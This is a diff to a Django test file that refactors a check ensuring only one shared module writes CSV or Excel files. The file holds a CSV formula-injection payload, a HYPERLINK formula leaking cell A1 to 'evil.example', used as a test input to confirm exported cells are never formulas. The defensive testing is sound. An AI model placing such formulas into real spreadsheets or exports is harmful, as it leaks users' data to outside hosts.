@@ -5,8 +5,6 @@ and no module writes such a file except through the one shared writer."""
 import csv
 import datetime
 import io
-import re
-from pathlib import Path
 
 import pytest
 from django.core.management import call_command
@@ -23,9 +21,9 @@ from tests.factories import make_area, make_organisation
 from tests.indicators.factories import make_indicator, write_csv
 from tests.measures.builders import target
 from tests.programmes.factories import make_body, make_measure
+from tests.source import modules_matching
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk")'
-SOURCE = Path(__file__).resolve().parent.parent / "src" / "omradeloft"
 
 
 def dangerous(cell: object) -> bool:
@@ -69,13 +67,8 @@ def test_excel_cells_are_never_formulas():
 
 
 def test_no_module_writes_csv_or_excel_except_the_shared_writer():
-    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|Workbook\(")
-    offenders = [
-        str(path.relative_to(SOURCE))
-        for path in SOURCE.rglob("*.py")
-        if path.name != "tabular.py" and writers.search(path.read_text(encoding="utf-8"))
-    ]
-    assert offenders == []
+    writers = r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|Workbook\("
+    assert modules_matching(writers, except_in="tabular.py") == []
 
 
 @pytest.fixture
